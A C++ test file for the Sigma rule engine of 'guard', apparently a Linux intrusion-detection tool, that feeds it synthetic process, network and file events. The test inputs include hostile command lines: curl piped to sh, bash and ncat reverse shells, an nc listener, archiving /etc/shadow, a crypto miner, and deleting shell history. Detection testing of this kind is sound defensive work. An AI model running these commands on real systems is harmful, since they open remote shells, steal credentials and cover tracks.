// SPDX-License-Identifier: GPL-2.0-or-later
// Sigma rules (sigma/, docs/sigma.md): guard's own corpus under
// test/fixtures/sigma, every modifier and condition form, each rule fed
// events that must and must not match, through the real engine; and the
// reasons rules are skipped or files refused.
#include <doctest/doctest.h>

#include <fcntl.h>
#include <sys/socket.h>

#include <cstddef>

#include "sigma/sigma_rules.h"
#include "sigma/values.h"
#include "sigma/yaml_docs.h"
#include "test/support/engine_capture.h"
#include "synthetic/record_builders.h"

using namespace guard;
using synthetic::exec_record;
using synthetic::file_record;
using synthetic::net_record;
using synthetic::Task;

namespace {

const std::string kCorpus = std::string(GUARD_SOURCE_DIR) + "/test/fixtures/sigma";
const std::string kUnsupported = std::string(GUARD_SOURCE_DIR) + "/test/fixtures/sigma_unsupported";

std::unique_ptr<RuleSet> corpus(sigma::Report *report = nullptr)
{
	auto set = std::make_unique<RuleSet>();
	sigma::Report r = sigma::add_sigma_rules(kCorpus, *set, {});
	set->index_by_kind();
	if (report)
		*report = r;
	return set;
}

// Feeds rec; true when the rule called title raised an alert for it.
bool fires(test::EngineCapture &engine, std::string_view title, const std::vector<uint8_t> &rec)
{
	uint64_t before = engine.alerts(title);
	engine.feed(rec);
	return engine.alerts(title) > before;
}

std::vector<uint8_t> as_uid(std::vector<uint8_t> rec, uint32_t uid)
{
	std::memcpy(rec.data() + offsetof(struct guard_header, uid), &uid, sizeof(uid));
	return rec;
}

Task task(uint32_t pid, uint32_t ppid = 1) { return Task{pid, ppid, "t", 1'000'000'000}; }

std::vector<uint8_t> run(uint32_t pid, std::string_view path, std::vector<std::string> argv, uint32_t ppid = 1,
			 std::string_view cwd = "/")
{
	return exec_record(task(pid, ppid), path, std::move(argv), 0, 0, cwd);
}

} // namespace

TEST_CASE("sigma: the corpus loads: every rule of test/fixtures/sigma compiles, but one that can never match")
{
	sigma::Report report;
	auto set = corpus(&report);
	CHECK(report.malformed == 0);
	for (const sigma::FileReport &f : report.files)
		for (const sigma::RuleOutcome &r : f.rules) {
			CAPTURE(r.title);
			CAPTURE(r.reason);
			CHECK(r.loaded == (r.title != "T hostname never"));
			if (!r.loaded)
				CHECK(r.reason.starts_with("can never match: it needs what guard does not know on any network_connection event"));
		}
	CHECK(report.loaded == 16 + 4 + 4 + 4); // process_creation, collection, network, files
	CHECK(report.skipped == 1);
}

TEST_CASE("sigma: strings: contains|all, startswith, endswith, wildcards and escapes, any case, cased")
{
	test::EngineCapture e(corpus());
	CHECK(fires(e, "T contains all", run(1001, "/bin/sh", {"sh", "-c", "curl http://x | sh"})));
	CHECK(fires(e, "T contains all", run(1002, "/bin/sh", {"CURL", "x", "|", "SH"}))); // NULs read as spaces
	CHECK_FALSE(fires(e, "T contains all", run(1003, "/usr/bin/curl", {"curl", "http://x"})));

	CHECK(fires(e, "T startswith endswith", run(1004, "/usr/bin/nc", {"nc", "-lvp", "4444"})));
	CHECK(fires(e, "T startswith endswith", run(1005, "/usr/bin/NC", {"NC", "-L"})));
	CHECK_FALSE(fires(e, "T startswith endswith", run(1006, "/usr/bin/ncat", {"nc", "-l"})));
	CHECK_FALSE(fires(e, "T startswith endswith", run(1007, "/usr/bin/nc", {"nc", "host", "-l"})));

	CHECK(fires(e, "T wildcards and escapes", run(1008, "/usr/bin/python3", {"python3", "-c", "print('*star?')"})));
	CHECK_FALSE(fires(e, "T wildcards and escapes", run(1009, "/usr/bin/python3", {"python3", "-c", "print('xstar?')"})));
	CHECK_FALSE(fires(e, "T wildcards and escapes", run(1010, "/usr/bin/python3.11", {"p", "-c", "*star?"})));

	CHECK(fires(e, "T cased", run(1011, "/bin/x", {"x", "SECRET"})));
	CHECK_FALSE(fires(e, "T cased", run(1012, "/bin/x", {"x", "secret"})));
}

TEST_CASE("sigma: re with i, m, s; windash; base64 and base64offset")
{
	test::EngineCapture e(corpus());
	CHECK(fires(e, "T re", run(1101, "/bin/bash", {"bash", "-i", ">&", "/dev/tcp/10.0.0.1/4444"})));
	CHECK_FALSE(fires(e, "T re", run(1102, "/bin/bash", {"BASH", "-i", ">&", "/dev/tcp/10.0.0.1/4444"})));
	CHECK(fires(e, "T re", run(1103, "/usr/bin/ncat", {"ncat", "192.0.2.1", "-e", "/bin/bash"})));
	CHECK(fires(e, "T re", run(1104, "/usr/bin/printf", {"printf", "first\nsecond line\nthird"})));
	CHECK_FALSE(fires(e, "T re", run(1105, "/usr/bin/printf", {"printf", "first second line"})));

	CHECK(fires(e, "T windash", run(1106, "/usr/bin/certutil", {"certutil", "-decode", "a", "b"})));
	CHECK(fires(e, "T windash", run(1107, "/usr/bin/certutil", {"certutil", "/decode", "a", "b"})));
	CHECK(fires(e, "T windash", run(1108, "/usr/bin/certutil", {"certutil", "\xE2\x80\x93" "decode", "a"})));
	CHECK_FALSE(fires(e, "T windash", run(1109, "/usr/bin/certutil", {"certutil", "decode", "a"})));
	CHECK(fires(e, "T windash", run(1113, "/usr/bin/certutil", {"certutil", "-urlcache"}))); // '/' written as '-'
	CHECK(fires(e, "T windash", run(1114, "/usr/bin/certutil", {"certutil", "\xE2\x80\x94urlcache"})));
	CHECK_FALSE(fires(e, "T windash", run(1115, "/usr/bin/certutil", {"certutil", "-decoded", "x"})));

	CHECK(fires(e, "T base64", run(1110, "/bin/echo", {"echo", sigma::base64("bash -i")})));
	for (std::string lead : {"", "x", "xy"}) {
		CAPTURE(lead);
		CHECK(fires(e, "T base64", run(1111, "/bin/echo", {"echo", sigma::base64(lead + "/bin/sh -c id")})));
	}
	CHECK_FALSE(fires(e, "T base64", run(1112, "/bin/echo", {"echo", "EC9IAW4VC2G="}))); // base64 keeps its case
}

TEST_CASE("sigma: null and empty values, exists, fieldref, numbers, parent, user, working directory")
{
	test::EngineCapture e(corpus());
	CHECK(fires(e, "T null and empty", run(1201, "/usr/bin/true", {}, 1200))); // parent unknown: no command line
	e.feed(run(1210, "/bin/bash", {"bash", "-x"}));
	CHECK_FALSE(fires(e, "T null and empty", run(1211, "/usr/bin/true", {}, 1210)));

	CHECK(fires(e, "T exists and fieldref", run(1212, "/bin/foo", {"/bin/FOO"}, 1210)));
	CHECK_FALSE(fires(e, "T exists and fieldref", run(1213, "/bin/foo", {"foo"}, 1210)));
	CHECK_FALSE(fires(e, "T exists and fieldref", run(1214, "/bin/foo", {"/bin/foo"}, 1299))); // no parent command line

	CHECK(fires(e, "T numbers", run(5500, "/bin/x", {"x"}, 100)));
	CHECK(fires(e, "T numbers", run(5000, "/bin/x", {"x"}, 200)));
	CHECK_FALSE(fires(e, "T numbers", run(6000, "/bin/x", {"x"}, 100)));
	CHECK_FALSE(fires(e, "T numbers", run(5501, "/bin/x", {"x"}, 150)));

	e.feed(run(1220, "/usr/sbin/sshd", {"sshd: alice [priv]"}));
	CHECK(fires(e, "T parent and user", as_uid(run(1221, "/bin/sh", {"sh"}, 1220, "/tmp/w"), 0)));
	CHECK_FALSE(fires(e, "T parent and user", as_uid(run(1222, "/bin/sh", {"sh"}, 1220, "/home"), 0)));
	CHECK_FALSE(fires(e, "T parent and user", as_uid(run(1223, "/bin/sh", {"sh"}, 1220, "/tmp"), 4242424)));
}

TEST_CASE("sigma: conditions: and, or, not, parentheses, 1 of / all of a pattern, 1 of / all of them, lists of maps")
{
	test::EngineCapture e(corpus());
	CHECK(fires(e, "T conditions", run(1301, "/usr/bin/wget", {"wget", "http://evil"})));
	CHECK(fires(e, "T conditions", run(1302, "/usr/bin/curl", {"curl", "x"})));
	CHECK_FALSE(fires(e, "T conditions", run(1303, "/usr/bin/wget", {"wget", "http://LOCALHOST/"})));
	CHECK_FALSE(fires(e, "T conditions", run(1304, "/usr/bin/curl", {"curl", "http://127.0.0.1"})));
	CHECK_FALSE(fires(e, "T conditions", run(1305, "/usr/bin/ftp", {"ftp"})));

	CHECK(fires(e, "T all of them", run(1306, "/bin/tar", {"tar", "czf", "x", "/etc/shadow"})));
	CHECK_FALSE(fires(e, "T all of them", run(1307, "/bin/tar", {"tar", "x"})));

	CHECK(fires(e, "T 1 of them and all of pattern", run(1308, "/bin/x", {"x", "xmrig", "stratum+tcp://pool"})));
	CHECK_FALSE(fires(e, "T 1 of them and all of pattern", run(1309, "/bin/x", {"xmrig"})));
	CHECK(fires(e, "T 1 of them and all of pattern", run(1310, "/opt/minerd", {"minerd"})));

	CHECK(fires(e, "T list of maps", run(1311, "/usr/bin/chattr", {"chattr", "+i", "f"})));
	CHECK_FALSE(fires(e, "T list of maps", run(1312, "/usr/bin/chattr", {"chattr", "-i", "f"})));
	CHECK(fires(e, "T list of maps", run(1313, "/usr/bin/setfacl", {"setfacl"})));

	CHECK(fires(e, "T 1 of them", run(1314, "/usr/bin/env", {"env", "LD_PRELOAD=/x"})));
	CHECK(fires(e, "T 1 of them", run(1315, "/bin/x", {"x", "lib.SO"})));
	CHECK_FALSE(fires(e, "T 1 of them", run(1316, "/bin/ls", {"ls"})));
}

TEST_CASE("sigma: rule collections: action global, repeat, reset")
{
	test::EngineCapture e(corpus());
	CHECK(fires(e, "T collection", run(1401, "/usr/bin/base64", {"base64"})));
	CHECK(fires(e, "T collection repeat", run(1402, "/usr/bin/xxd", {"xxd"})));
	CHECK(fires(e, "T collection repeated", run(1403, "/usr/bin/od", {"od"})));
	CHECK_FALSE(fires(e, "T collection repeated", run(1404, "/usr/bin/xxd", {"xxd"})));
	CHECK(fires(e, "T after reset", run(1405, "/usr/bin/hexdump", {"hexdump"})));
}

TEST_CASE("sigma: network_connection: connect is Initiated true, accept false; DestinationHostname never matches")
{
	test::EngineCapture e(corpus());
	CHECK(fires(e, "T connect out", net_record(task(1501), GUARD_RECORD_NET_CONNECT, AF_INET, synthetic::ipv4(203, 0, 113, 5), 4444)));
	CHECK_FALSE(fires(e, "T connect out", net_record(task(1501), GUARD_RECORD_NET_CONNECT, AF_INET, synthetic::ipv4(10, 1, 2, 3), 4444)));
	CHECK_FALSE(fires(e, "T connect out", net_record(task(1501), GUARD_RECORD_NET_CONNECT, AF_INET, synthetic::ipv4(203, 0, 113, 5), 80)));
	CHECK_FALSE(fires(e, "T connect out", net_record(task(1501), GUARD_RECORD_NET_ACCEPT, AF_INET, synthetic::ipv4(203, 0, 113, 5), 4444)));

	CHECK(fires(e, "T accept in", net_record(task(1502), GUARD_RECORD_NET_ACCEPT, AF_INET, synthetic::ipv4(203, 0, 113, 9), 55000)));
	CHECK_FALSE(fires(e, "T accept in", net_record(task(1502), GUARD_RECORD_NET_CONNECT, AF_INET, synthetic::ipv4(203, 0, 113, 9), 55000)));
	CHECK_FALSE(fires(e, "T accept in", net_record(task(1502), GUARD_RECORD_NET_ACCEPT, AF_INET, synthetic::ipv4(198, 51, 100, 9), 1)));

	std::vector<uint8_t> v6(16, 0);
	v6[0] = 0x20, v6[1] = 0x01, v6[2] = 0x0d, v6[3] = 0xb8, v6[15] = 7;
	e.feed(run(1503, "/usr/bin/ncat", {"ncat"}));
	CHECK(fires(e, "T no hostname", net_record(task(1503), GUARD_RECORD_NET_CONNECT, AF_INET6, v6, 443)));
	CHECK_FALSE(fires(e, "T no hostname", net_record(task(1504), GUARD_RECORD_NET_CONNECT, AF_INET6, v6, 443)));
	CHECK(e.alerts("T hostname never") == 0);
}

TEST_CASE("sigma: an IP field's other text tests run on the address as output prints it")
{
	test::EngineCapture e(corpus());
	auto connect = [](std::vector<uint8_t> addr) {
		return net_record(task(1505), GUARD_RECORD_NET_CONNECT, addr.size() == 4 ? AF_INET : AF_INET6, addr, 443);
	};
	std::vector<uint8_t> ula(16, 0), doc6(16, 0);
	ula[0] = 0xfd, ula[15] = 1;
	doc6[0] = 0x20, doc6[1] = 0x01, doc6[2] = 0x0d, doc6[3] = 0xb8, doc6[15] = 1;
	CHECK(fires(e, "T address text", connect(ula)));
	CHECK(fires(e, "T address text", connect(synthetic::ipv4(198, 51, 100, 7))));
	CHECK(fires(e, "T address text", connect(synthetic::ipv4(203, 0, 113, 2))));
	CHECK_FALSE(fires(e, "T address text", connect(synthetic::ipv4(203, 0, 113, 12))));
	CHECK_FALSE(fires(e, "T address text", connect(synthetic::ipv4(198, 52, 0, 1))));
	CHECK_FALSE(fires(e, "T address text", connect(doc6)));
}

TEST_CASE("sigma: file_event, file_delete, file_rename, file_access: successful calls, the right names")
{
	test::EngineCapture e(corpus());
	Task t = task(1601);
	CHECK(fires(e, "T file event", file_record(t, GUARD_RECORD_FILE_OPEN, "/etc/systemd/system/evil.service", {}, 3,
						  O_WRONLY | O_CREAT, GUARD_FILE_MODIFY)));
	CHECK_FALSE(fires(e, "T file event", file_record(t, GUARD_RECORD_FILE_OPEN, "/etc/systemd/system/evil.service")));
	CHECK_FALSE(fires(e, "T file event", file_record(t, GUARD_RECORD_FILE_OPEN, "/etc/systemd/system/evil.service", {},
							-13, O_WRONLY, GUARD_FILE_MODIFY)));
	CHECK(fires(e, "T file event", file_record(t, GUARD_RECORD_FILE_RENAME, "/tmp/x", "/etc/systemd/system/x.service", 0)));
	CHECK_FALSE(fires(e, "T file event", file_record(t, GUARD_RECORD_FILE_RENAME, "/etc/systemd/system/x.service", "/tmp/x", 0)));

	CHECK(fires(e, "T file delete", file_record(t, GUARD_RECORD_FILE_UNLINK, "/home/u/.bash_history", {}, 0)));
	CHECK_FALSE(fires(e, "T file delete", file_record(t, GUARD_RECORD_FILE_UNLINK, "/home/u/.bash_history", {}, -2)));
	CHECK(fires(e, "T file rename", file_record(t, GUARD_RECORD_FILE_RENAME, "/tmp/a", "/usr/local/bin/a", 0)));
	CHECK_FALSE(fires(e, "T file rename", file_record(t, GUARD_RECORD_FILE_RENAME, "/home/a", "/usr/local/bin/a", 0)));

	e.feed(run(1602, "/usr/bin/cat", {"cat", "/etc/sudoers"}));
	CHECK(fires(e, "T file access", file_record(task(1602), GUARD_RECORD_FILE_OPEN, "/etc/sudoers")));
	CHECK_FALSE(fires(e, "T file access", file_record(task(1602), GUARD_RECORD_FILE_OPEN, "/etc/sudoers.d/x")));
	CHECK_FALSE(fires(e, "T file access", file_record(task(1603), GUARD_RECORD_FILE_OPEN, "/etc/sudoers")));
}

TEST_CASE("sigma: an alert names the Sigma title, id, level (as guard's severity), tags and ATT&CK techniques")
{
	test::EngineCapture e(corpus());
	e.feed(run(1701, "/bin/sh", {"sh", "-c", "curl x | sh"}));
	CHECK(e.alerts_with("\"rule\":\"T contains all\",\"severity\":\"high\",\"description\":\"curl piped into a shell\","
			    "\"attack\":[\"T1059.004\"],\"sigma_id\":\"11111111-0000-4000-8000-000000000001\",\"level\":\"high\","
			    "\"tags\":[\"attack.execution\",\"attack.t1059.004\"]") == 1);
}

TEST_CASE("sigma: unsupported rules are skipped with FILE:LINE:COL and the reason; malformed YAML is refused")
{
	RuleSet set;
	sigma::Report report = sigma::add_sigma_rules(kUnsupported, set, {});
	CHECK(report.loaded == 0);
	CHECK(report.skipped == 7);
	CHECK(report.malformed == 1);
	CHECK(report.by_logsource.at("windows/process_creation") == 1);
	CHECK(report.by_logsource.at("linux/service auditd") == 1);
	std::string text = sigma::describe_report(report);
	INFO(text);
	for (const char *expected : {
		     "malformed.yml:3:10: malformed YAML: end of map flow not found",
		     "skipped.yml:2:22: skipped \"U windows\": logsource product \"windows\" (guard runs product: linux)",
		     "skipped.yml:12:5: skipped \"U utf16\": field \"CommandLine\": modifier \"utf16le\" is not supported",
		     "skipped.yml:19:5: skipped \"U original file name\": field \"OriginalFileName\" has no meaning on Linux",
		     "skipped.yml:27:14: skipped \"U aggregation\": aggregations",
		     "skipped \"U keywords\": keyword searches (values without a field) are not supported",
		     "skipped \"U auditd\": logsource service \"auditd\" is not supported",
		     "skipped \"U unknown selection\": condition names \"filter\", which detection does not define",
		     "0 Sigma rules loaded from 2 files, 7 skipped (for their logsource: linux/service auditd 1 "
		     "windows/process_creation 1), 1 file malformed",
	     })
		CHECK(text.find(expected) != std::string::npos);
	CHECK(set.rules.empty());
	CHECK(set.nodes.empty()); // what skipped rules had compiled is gone
}

// yaml-cpp 0.7's LoadAll never returns on these (docs/fuzzing.md): the
// fuzzer's finding, its minimal form, and the same after a valid rule.
TEST_CASE("sigma: YAML on which yaml-cpp's parser would loop is refused at the token")
{
	struct Case {
		const char *text, *expected;
	} cases[] = {
		{"'',", "f.yml:1:3: malformed YAML: no node can start with ','"},
		{",", "f.yml:1:1: malformed YAML: no node can start with ','"},
		{"title: t\n---\n[a], b\n", "f.yml:3:4: malformed YAML: no node can start with ','"},
	};
	for (const Case &c : cases) {
		INFO(c.text);
		std::string message;
		try {
			sigma::rule_documents(c.text, "f.yml");
		} catch (const sigma::MalformedYaml &e) {
			message = e.message;
		}
		CHECK(message == c.expected);
	}
}

TEST_CASE("sigma: a path that is not there, or not a file or directory, is an error")
{
	RuleSet set;
	CHECK_THROWS_WITH_AS(sigma::add_sigma_rules("/nonexistent/sigma", set, {}), doctest::Contains("/nonexistent/sigma"),
			     rules::RulesFileError);
	CHECK_THROWS_WITH_AS(sigma::add_sigma_rules("/dev/null", set, {}), doctest::Contains("neither a file nor a directory"),
			     rules::RulesFileError);
}
